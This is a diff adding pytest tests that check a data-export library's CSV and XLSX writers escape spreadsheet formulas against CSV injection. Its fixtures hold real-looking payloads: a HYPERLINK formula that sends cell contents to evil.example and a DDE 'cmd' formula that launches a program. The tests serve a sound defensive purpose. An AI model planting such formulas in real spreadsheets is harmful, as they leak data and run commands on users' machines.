@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import codecs
+import csv
 import json
 from pathlib import Path
 from typing import Any
@@ -354,3 +355,46 @@ def test_xlsx_rows_past_the_sheet_limit_continue_on_a_new_sheet(
 def test_unknown_output_extension_is_refused(tmp_path: Path) -> None:
     with pytest.raises(SourceError, match=r"unknown output format '\.txt'"):
         open_writer(tmp_path / "out.txt", COLUMNS)
+
+
+# Text a spreadsheet would evaluate, and what CSV and XLSX output holds instead (OWASP, "CSV
+# injection"): a leading apostrophe, so that the cell is shown as the text it is.
+FORMULA_CELLS = [
+    (
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    ),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("+1 555 0100", "'+1 555 0100"),
+    ("-2+3", "'-2+3"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("Acme = Widgets", "Acme = Widgets"),
+    ("O'Brien Trading", "O'Brien Trading"),
+]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_spreadsheet_outputs_never_hold_a_formula(tmp_path: Path, suffix: str) -> None:
+    path = tmp_path / f"out{suffix}"
+    with open_writer(path, COLUMNS) as writer:
+        writer.write([(given, 1, 0.5) for given, _ in FORMULA_CELLS])
+        writer.commit()
+    if suffix == ".xlsx":
+        book = openpyxl.load_workbook(path)
+        cells = [row[0] for row in book.worksheets[0].iter_rows(min_row=2)]
+        assert all(c.data_type == "s" for c in cells)  # text, not a formula ("f")
+        written = [c.value for c in cells]
+    else:
+        with path.open(newline="", encoding="utf-8") as handle:
+            written = [row[0] for row in list(csv.reader(handle))[1:]]
+    assert written == [expected for _, expected in FORMULA_CELLS]
+
+
+@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
+def test_outputs_no_spreadsheet_evaluates_keep_the_exact_text(tmp_path: Path, suffix: str) -> None:
+    path = tmp_path / f"out{suffix}"
+    with open_writer(path, COLUMNS) as writer:
+        writer.write([(given, 1, 0.5) for given, _ in FORMULA_CELLS])
+        writer.commit()
+    assert [row[0] for row in _read_back(path)] == [given for given, _ in FORMULA_CELLS]
